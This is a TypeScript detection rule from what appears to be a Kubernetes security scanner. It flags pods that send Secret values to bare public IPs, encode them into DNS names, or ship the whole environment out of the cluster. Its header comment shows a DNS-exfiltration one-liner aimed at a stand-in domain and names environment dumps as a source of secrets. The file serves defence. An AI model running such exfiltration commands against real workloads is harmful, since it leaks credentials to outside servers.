/**
 * secret-exfil — values of Kubernetes Secrets are sent to a bare public address.
 * Reads: each container's execution model: flows whose content comes from a Secret (env
 * `secretKeyRef`, a Secret volume's files) and end in a send.
 * Looks for: such a send to a public IP address written as an address (any spelling: decimal,
 * hex, octal, IPv6-mapped, a wildcard-DNS name embedding one), or a send inside a host name: the
 * value put into the leading labels of a name under a fixed domain (`dig $(echo $PW | xxd -p).x.example`),
 * which the resolver hands to that domain's name server; or the whole environment (`env`, `printenv`,
 * `/proc/self/environ`, where Kubernetes puts Secrets given as env) sent to any host outside the cluster.
 * Why: T1552.001/T1041 — the pod's database passwords and API keys collected and posted to a
 * collection server; droppers and exfiltration endpoints are bare addresses, not the named services
 * a Secret is for.
 * Benign look-alikes: a Secret used for what it is for — a database password sent to the database
 * (`db:5432`, an in-cluster name or private address), an API key to an API domain — does not fire.
 * Secrets sent to a public domain are not judged: the rule cannot tell a vendor's API from a
 * collector with a name.
 */
import { classifyHost, hostAddress, parseUrl } from '../../workload/address.js';
import { containerExecutions, describeFlow, EvidenceByPath } from '../behaviour.js';
import { credentialFlows, queriedDomain } from '../credentials.js';
import { ENVIRONMENT } from '../../workload/credential.js';
import type { Rule } from '../types.js';

const KINDS = new Set(['secret'] as const);

function isBareAddress(destination: string | undefined): boolean {
  if (destination === undefined) return false;
  const url = parseUrl(destination);
  if (url === undefined) return false;
  const hostClass = classifyHost(url.host);
  if (hostClass === 'public-address') return true;
  const embedded = hostAddress(url.host);
  return hostClass === 'domain' && embedded !== undefined;
}

/** A send that leaves the cluster: to a public address or a public name. */
function leavesCluster(destination: string | undefined): boolean {
  const url = destination === undefined ? undefined : parseUrl(destination);
  if (url === undefined) return false;
  const hostClass = classifyHost(url.host);
  return hostClass === 'public-address' || hostClass === 'domain';
}

export const secretExfil: Rule = {
  id: 'secret-exfil',
  profile: 'default',
  weight: 8,
  technique: 'T1552.001',
  description: 'Values of Kubernetes Secrets are sent to a bare public IP address or inside a DNS name',
  reason: 'secret values sent to an address',
  guide: 'credential-theft',
  doc: {
    reads: 'each container’s execution model: flows from Secret values to a send',
    why: 'credentials collected from the pod and posted to a collection server (T1552.001, T1041)',
    benign: 'a password sent to its database or an API key to an API domain does not fire',
  },
  check(workload) {
    const evidence = new EvidenceByPath();
    for (const entry of containerExecutions(workload)) {
      for (const { flow, origin } of credentialFlows(entry, KINDS)) {
        if (flow.sink !== 'send') continue;
        // The whole environment has no audience: no API takes every variable of a pod.
        const everything = origin.source === ENVIRONMENT || origin.source.endsWith('/environ');
        if (
          isBareAddress(flow.destination) ||
          queriedDomain(flow.destination) !== undefined ||
          (everything && leavesCluster(flow.destination))
        )
          evidence.add(flow.path, () => describeFlow(flow));
      }
    }
    return evidence.list();
  },
};
